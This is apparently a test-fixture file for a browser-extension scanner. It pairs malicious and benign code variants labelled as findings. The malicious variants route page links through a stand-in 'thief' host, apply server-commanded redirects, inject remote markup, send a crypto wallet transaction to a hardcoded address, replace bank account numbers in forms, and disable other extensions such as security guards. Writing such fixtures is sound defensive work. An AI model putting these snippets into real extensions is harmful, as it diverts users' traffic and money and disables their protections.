import { finding, thief, type Fact } from '../case.ts';
import { pairsOf, type Pair, type Row } from '../pairs.ts';

const far = `https://${thief}`;
const worker = (code: string): Pick<Row, 'worker'> => ({ worker: code });
const routed: Fact = finding('links-routed');
const pressed = (change: string): string =>
  `document.addEventListener('mousedown', ({ target }) => { const link = target.closest('a'); if (link) ${change}; }, true);`;
/** Where links of a page are led, and whose links. */
const routes: Readonly<Record<string, Row>> = {
  'through another host or to a part of the address': {
    content: {
      'content.js': pressed(
        `link.href = «'${far}/?to=' + encodeURIComponent(link.href)¦new URL(link.href).searchParams.get('q')»`,
      ),
    },
    fact: routed,
  },
  'through another host or a page of its own': {
    content: {
      'content.js': `for (const link of document.links) link.setAttribute('href', «'${far}/out/'¦chrome.runtime.getURL('read.html#')» + btoa(link.getAttribute('href')));`,
    },
    fact: routed,
  },
  'of the page or beside it': {
    content: {
      'content.js': pressed(
        `{ const shown = «link¦document.createElement('a')»; shown.href = '${far}/?to=' + encodeURIComponent(link.href); link.after(shown); }`,
      ),
    },
    fact: routed,
  },
  'as a text or only its part': {
    content: {
      'content.js': `for (const link of document.links) link.href = '${far}/?to=' + encodeURIComponent(«String(link)¦link.dataset.id»);`,
    },
    fact: routed,
  },
  'by what is put before or replaced': {
    content: {
      'content.js': `for (const link of document.links) link.href = link.href.replace(/^«¦http:»/, '«${far}/?to=¦https:»');`,
    },
    fact: routed,
  },
  'by an address that was kept': {
    content: {
      'content.js': `for (const link of document.links) { link.dataset.to = «link.href¦link.title»; link.href = '${far}/?to=' + encodeURIComponent(link.dataset.to); }`,
    },
    fact: routed,
  },
  'within the address of a viewer': {
    content: {
      'content.js': `for (const link of document.links) link.href = 'https://docs.google.com/viewer?url=' + encodeURIComponent(«'${far}/?to=' + link.href¦link.href»);`,
    },
    fact: routed,
  },
  'by a start that a server sends, or that nobody sends': {
    content: {
      'content.js': `chrome.storage.local.get('start', ({ start }) => { for (const link of document.links) link.href = start + encodeURIComponent(link.href); });`,
    },
    worker: `fetch('${far}/start').then((answer) => answer.text()).then((start) => chrome.storage.local.set({ «start¦seen: start» }));`,
    fact: routed,
  },
};

const iban = 'DE89370400440532013000';
const alarm = 'chrome.alarms.onAlarm.addListener';
const permitted = (...permissions: readonly string[]): Pick<Row, 'manifest'> => ({
  manifest: { permissions: ['alarms', 'storage', ...permissions] },
});
const answered = (path: string): string => `await (await fetch('${far}/${path}')).json()`;
const others = 'chrome.management.getAll()';

/** What a server or the code decides by itself, and what the user or the package does. */
const decided: Readonly<Record<string, Row>> = {
  'where requests are led': {
    ...worker(
      `${alarm}(async () => { const list = ${answered('list')}; const addRules = list.map(({ from, to }, at) => ({ id: at + 1, action: { type: 'redirect', redirect: { «url¦extensionPath»: «to¦'/tide.js'» } }, condition: { urlFilter: from } })); chrome.declarativeNetRequest.updateDynamicRules({ addRules }); });`,
    ),
    ...permitted('declarativeNetRequest'),
    fact: finding('redirects-commanded-by-server'),
  },
  'whole rules or sites that are blocked': {
    ...worker(
      `${alarm}(async () => { const { rules } = ${answered('list')}; const addRules = «rules¦rules.map((urlFilter, at) => ({ id: at + 1, action: { type: "block" }, condition: { urlFilter } }))»; chrome.declarativeNetRequest.updateDynamicRules({ addRules }); });`,
    ),
    ...permitted('declarativeNetRequest'),
    fact: finding('redirects-commanded-by-server'),
  },
  'where a click on a notification leads': {
    ...worker(
      `let news; ${alarm}(async () => { news = ${answered('news')}; chrome.notifications.create('n', { type: 'basic', iconUrl: 'tide.png', title: news.title, message: news.text }); }); chrome.notifications.onClicked.addListener(() => chrome.tabs.create({ url: «news.url¦'https://tides.io/news/' + news.id» }));`,
    ),
    ...permitted('notifications'),
    fact: finding('notification-clicks-led-by-server'),
  },
  'markup in every page': {
    content: {
      'content.js': `fetch(«'${far}/offer'¦chrome.runtime.getURL('offer.html')»).then((answer) => answer.text()).then((markup) => document.body.insertAdjacentHTML('beforeend', markup));`,
    },
    others: { 'offer.html': '<p>Tide</p>' },
    fact: finding('server-markup-in-pages'),
  },
  'markup as a page loads or for a click': {
    content: {
      'content.js': `const button = document.createElement('button'); document.body.append(button); const show = async () => { const answer = await fetch('${far}/offer'); document.body.insertAdjacentHTML('beforeend', await answer.text()); }; «show()¦button.addEventListener('click', show)»;`,
    },
    fact: finding('server-markup-in-pages'),
  },
  'markup that is parsed, or a title of it': {
    content: {
      'content.js': `fetch('${far}/block').then((answer) => answer.text()).then((text) => { const parsed = new DOMParser().parseFromString(text, 'text/html'); document.body.append(«...parsed.body.children¦parsed.title»); });`,
    },
    fact: finding('server-markup-in-pages'),
  },
  'a payment as a text': {
    content: {
      'content.js': `const wallet = document.createElement('script'); wallet.src = chrome.runtime.getURL('page.js'); document.head.append(wallet);`,
    },
    others: {
      'page.js': `window.ethereum.request(JSON.parse('{"method":"eth_«sendTransaction¦getBalance»","params":[{"to":"0x52908400098527886E0F7030069857D2E4169EE7","value":"0x2386f26fc10000"}]}'));`,
    },
    manifest: { web_accessible_resources: [{ resources: ['page.js'], matches: ['<all_urls>'] }] },
    fact: finding('wallet-payment-made'),
  },
  'extensions beside a decoy, or as a page sets it': {
    ...worker(
      `chrome.runtime.onStartup.addListener(async () => { const { off } = await chrome.storage.local.get('off'); for (const { id } of await ${others}) if (off?.includes(id)) chrome.management.setEnabled(id, false); });`,
    ),
    pages: {
      'popup.html': {
        'popup.js': `document.querySelector('#off').onchange = ({ target }) => chrome.storage.local.set({ «theme¦off»: target.value });`,
      },
    },
    ...permitted('management'),
    fact: finding('other-extensions-disabled-unasked'),
  },
  'an account for what is as long': {
    content: {
      'content.js': `const own = '${iban}'; document.addEventListener('input', ({ target }) => { if (target.value.length === «own.length¦0») target.value = own; });`,
    },
    fact: finding('account-number-replaced'),
  },
  'an account for what begins like it': {
    content: {
      'content.js': `for (const cell of document.querySelectorAll('td')) if (cell.textContent.startsWith('DE')) cell.textContent = «'${iban}'¦cell.textContent.trim()»;`,
    },
    fact: finding('account-number-replaced'),
  },
  'extensions at times of its own or for a click': {
    ...worker(
      `async function quiet() { for (const { id } of await ${others}) if (id !== chrome.runtime.id) chrome.management.setEnabled(id, false); } chrome.«alarms.onAlarm¦action.onClicked».addListener(quiet);`,
    ),
    ...permitted('management'),
    fact: finding('other-extensions-disabled-unasked'),
  },
  'extensions by their names or by rules of the user': {
    ...worker(
      `${alarm}(async () => { const all = «(await ${others}).filter(({ name }) => /guard/i.test(name))¦(await chrome.storage.sync.get("quiet")).quiet»; for (const { id } of all) chrome.management.setEnabled(id, false); });`,
    ),
    pages: {
      'popup.html': {
        'popup.js': `document.querySelector('#quiet').onchange = ({ target }) => chrome.storage.sync.set({ quiet: target.value.split(' ').map((id) => ({ id })) });`,
      },
    },
    ...permitted('management'),
    fact: finding('other-extensions-disabled-unasked'),
  },
};

/** What is decided for users: by a server, by the code, and by themselves. */
export const decisionPairs: readonly Pair[] = [
  ...pairsOf('links of the page', routes),
  ...pairsOf('what is decided for users', decided),
];
